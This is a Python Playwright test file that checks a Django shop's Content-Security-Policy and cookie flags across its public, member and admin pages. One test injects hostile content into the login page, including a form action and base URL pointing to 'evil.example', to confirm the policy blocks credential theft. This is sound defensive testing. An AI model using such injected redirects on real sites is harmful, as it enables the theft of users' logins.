"""What a browser makes of the shop's headers: no page is hindered, over HTTP and over HTTPS."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import trustme
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.urls import reverse
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect
from pytest_django.live_server_helper import LiveServer

from erply_auth import urls
from erply_auth.sandbox import Sandbox
from tests.project.support import copy_shop, run
from tests.project.test_server import PRODUCTION, gunicorn

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PAGES = ("/account/", "/admin/", "/nowhere/", "/favicon.ico")
STAFF = ("boss", "Staff-password-1")
GIVEN = {"address_id": "101", "token": "a-mailed-token"}
REPORT = """
document.addEventListener('securitypolicyviolation', event =>
    report(`${event.violatedDirective} ${event.blockedURI} at ${location.pathname}`))
"""


def area() -> list[str]:
    """Every address of the members' area, those that are still to come included."""
    names = [(page.name, page.pattern.converters) for page in urls.urlpatterns]
    return [
        reverse(f"erply_auth:{name}", kwargs={given: GIVEN.get(given, "101") for given in needed})
        for name, needed in names
    ]


def staffs() -> list[str]:
    """Every list and every form of the admin that needs no record."""
    models = [model._meta for model in admin.site._registry]
    pages = [f"/admin/{meta.app_label}/{meta.model_name}/" for meta in models]
    pages += [f"/admin/{meta.app_label}/" for meta in models]
    return ["/admin/", *pages, "/admin/auth/user/add/", "/admin/auth/group/add/"]


def watched(context: BrowserContext) -> list[str]:
    """Fills up with what the policy forbade and with whatever else the console says."""
    complaints: list[str] = []

    def note(what: str) -> None:
        complaints.append(what)

    def note_console(said: ConsoleMessage) -> None:
        # The status of the page itself is for the test to judge, not for the console.
        is_status = said.text.startswith("Failed to load resource")
        is_serious = said.type in ("error", "warning")
        if is_serious and not (is_status and urlsplit(said.location["url"]).path.startswith(PAGES)):
            note(f"{said.type}: {said.text} at {said.location['url']}")

    context.expose_function("report", note)
    context.add_init_script(REPORT)
    context.on("console", note_console)
    context.set_default_timeout(10_000)
    return complaints


@pytest.fixture
def over_http(live_server: LiveServer, erply: Sandbox) -> str:
    get_user_model().objects.create_superuser(STAFF[0], password=STAFF[1])
    return str(live_server.url)


@pytest.fixture
def over_https(tmp_path: Path, erply: Sandbox) -> Iterator[str]:
    """The shop as in production, on a certificate of nobody's; everything is set by HTTPS_ONLY."""
    folder = copy_shop(tmp_path)
    certificate, key = tmp_path / "certificate.pem", tmp_path / "key.pem"
    issued = trustme.CA().issue_cert("127.0.0.1")
    issued.cert_chain_pems[0].write_to_path(certificate)
    issued.private_key_pem.write_to_path(key)
    variables = PRODUCTION | {"ERPLY_API_URL": erply.url}
    for command in (["migrate"], ["createsuperuser", "--noinput"]):
        started = run(
            *("manage.py", *command, "--verbosity", "0"),
            folder=folder,
            **variables,
            DJANGO_SUPERUSER_USERNAME=STAFF[0],
            DJANGO_SUPERUSER_PASSWORD=STAFF[1],
            DJANGO_SUPERUSER_EMAIL="boss@shop.example",
        )
        assert started.returncode == 0, started.stderr
    options = ("--certfile", str(certificate), "--keyfile", str(key), "--threads", "4")
    with gunicorn(folder, *options, **variables) as site:
        yield site.replace("http:", "https:")


@pytest.fixture(params=["over_http", "over_https"])
def visitor(request: Any, browser: Browser) -> Iterator[Page]:
    """A tab of a browser that complains of nothing."""
    site = request.getfixturevalue(request.param)
    context = browser.new_context(base_url=site, ignore_https_errors=True, locale="en-GB")
    complaints = watched(context)
    yield context.new_page()
    context.close()
    assert complaints == []


def visit(page: Page, path: str) -> None:
    """Opens it, in both colour schemes; style sheet and pictures are there."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        answer = page.goto(path)
        assert answer is not None
        assert answer.status < 500, path
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert page.evaluate("document.styleSheets.length") > 0, path


def test_no_page_of_the_shop_is_hindered(visitor: Page) -> None:
    paths = ["/", "/offers/", "/nowhere/", "/account/nowhere/", *area()]
    for path in paths:
        visit(visitor, path)
    visitor.goto("/account/login/")
    visitor.get_by_label("User name").fill("person")
    visitor.get_by_label("Password").fill("Sandbox-person-1")
    visitor.get_by_role("button", name="Log in").click()
    expect(visitor.get_by_role("heading", level=1)).to_have_text("Hello, Mari Maasikas")
    for path in paths:
        visit(visitor, path)
    names = {cookie["name"]: cookie for cookie in visitor.context.cookies()}
    secure = visitor.url.startswith("https:")
    assert set(names) == {
        f"{'__Host-' if secure else ''}{name}"
        for name in ("sessionid", "csrftoken", "erply_device")
    }
    for cookie in names.values():
        assert (cookie["httpOnly"], cookie["sameSite"], cookie["secure"]) == (True, "Lax", secure)


def test_no_page_of_the_admin_is_hindered(visitor: Page) -> None:
    visit(visitor, "/admin/login/")
    visitor.get_by_label("Username").fill(STAFF[0])
    visitor.get_by_label("Password").fill(STAFF[1])
    visitor.get_by_role("button", name="Log in").click()
    expect(visitor.get_by_role("heading", name="Site administration")).to_be_visible()
    for path in [*staffs(), "/admin/password_change/", "/admin/nowhere/"]:
        visit(visitor, path)
    visitor.goto("/admin/auth/user/?q=boss")
    visitor.get_by_role("link", name="boss", exact=True).last.click()
    # Two lists to choose from are there only if the admin's own scripts have run.
    expect(visitor.locator(".selector-chosen").first).to_be_visible()
    visitor.get_by_role("link", name="Today").first.click()
    visitor.get_by_role("button", name="Save", exact=True).click()
    expect(visitor.get_by_text("was changed successfully")).to_be_visible()


def test_what_is_slipped_into_a_page_is_not_run(
    browser: Browser, live_server: LiveServer, erply: Sandbox
) -> None:
    """That the tests above would notice: the same watch over a page with something inline."""
    context = browser.new_context(base_url=live_server.url)
    complaints = watched(context)
    page = context.new_page()
    page.goto("/account/login/")
    page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.body.append(script);
        document.querySelector('main').setAttribute('style', 'display: none');
        document.querySelector('form').action = 'https://evil.example/';
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
        const frame = document.createElement('iframe');
        frame.src = '/';
        document.body.append(frame);
    }""")
    page.get_by_label("User name").fill("person")
    page.get_by_label("Password").fill("Sandbox-person-1")
    assert "taken over" not in page.title()
    # Not a click, which would wait for the page that never comes. What the page reports of it
    # comes some time after; what it reports next comes after that.
    page.evaluate("""() => new Promise(over => {
        document.addEventListener('securitypolicyviolation', event =>
            event.violatedDirective === 'form-action' && report('over').then(over));
        document.querySelector('form').requestSubmit();
    })""")
    context.close()
    told = {one.split()[0] for one in complaints}
    assert told >= {"script-src-elem", "style-src-attr", "form-action", "base-uri", "frame-src"}
    assert erply.calls_of("verifyCustomerUser") == []
